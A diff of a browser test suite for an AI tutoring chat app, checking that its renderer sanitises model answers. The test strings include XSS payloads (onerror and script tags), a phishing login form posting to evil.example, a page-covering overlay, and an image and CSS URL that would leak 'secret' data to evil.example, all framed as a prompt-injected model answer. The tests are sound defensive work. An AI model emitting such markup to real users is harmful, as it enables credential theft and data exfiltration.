@@ -24,7 +24,14 @@ from conversations.models import Message, MessageStatus, Role
 from conversations.services import token_issue
 from conversations.testing.fake_openai import Behaviour, FakeOpenAI
 from maice.models import MaiceQuestion, MaiceRequest
-from tests.counseling.test_page import CHROMIUM, CHROMIUM_ARGS, PASSWORD, TIMEOUT_MS, chromium  # noqa: F401 - fixture
+from tests.counseling.test_page import (  # noqa: F401 - fixture
+    CHROMIUM,
+    CHROMIUM_ARGS,
+    PASSWORD,
+    TIMEOUT_MS,
+    chromium,
+    csp_refusals,
+)
 from tests.maice.conftest import ANSWER_TEXT, CLARIFY, IMPROVE, classification, route_steps
 
 try:
@@ -47,8 +54,10 @@ async def _browser_page() -> AsyncIterator[Page]:
         errors: list[str] = []
         page.on("pageerror", lambda error: errors.append(str(error)))
         page.js_errors = errors  # type: ignore[attr-defined]
+        refused = csp_refusals(page)
         yield page
         await browser.close()
+    assert not refused, "the page's own policy refused something it loads"
 
 
 @pytest.fixture
@@ -351,7 +360,26 @@ async def test_the_renderer_sanitises_and_keeps_code_literal(
         "**굵게** $a_1 + a_n$ `$not math$`<img src=x onerror=alert(1)><script>alert(2)</script> $$\\\\frac{1}{2}$$")""")
     assert "<strong>굵게</strong>" in html and 'class="katex"' in html and "katex-display" in html
     assert "<code>$not math$</code>" in html
-    assert "onerror" not in html and "<script" not in html
+    assert "<img" not in html and "<script" not in html  # (shown as text: see below)
+
+
+async def test_the_renderer_shows_a_models_markup_as_text(
+    fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page
+) -> None:
+    # A prompt-injected answer: a login form, a page-wide overlay, an image that would
+    # send the conversation elsewhere as it loads.
+    await _log_in(page, maice_server, "wary", make_user)
+    html = await page.evaluate("""() => MaiceRender.toHtml([
+        '<form action="https://evil.example/login"><input type="password" name="pw"><button>로그인</button></form>',
+        '<div style="position:fixed;inset:0;z-index:9999">가림</div>',
+        '![x](https://evil.example/p.png?d=secret) <span style="background:url(https://evil.example/c)">s</span>',
+        '$\\\\overrightarrow{AB}$ $\\\\rule{500em}{500em}$',
+    ].join("\\n\\n"))""")
+    for markup in ("<form", "<input", "<button", "<div style", "<img", "<span style=\"background", "evil.example/p.png"):
+        assert markup not in html
+    assert "&lt;form action=" in html and "&lt;div style=" in html  # shown, not drawn
+    assert 'class="katex"' in html and "<svg" in html  # KaTeX's own markup stays
+    assert "width:500em" not in html and "width:20em" in html  # a size the model asks for is capped
 
 
 @pytest.fixture
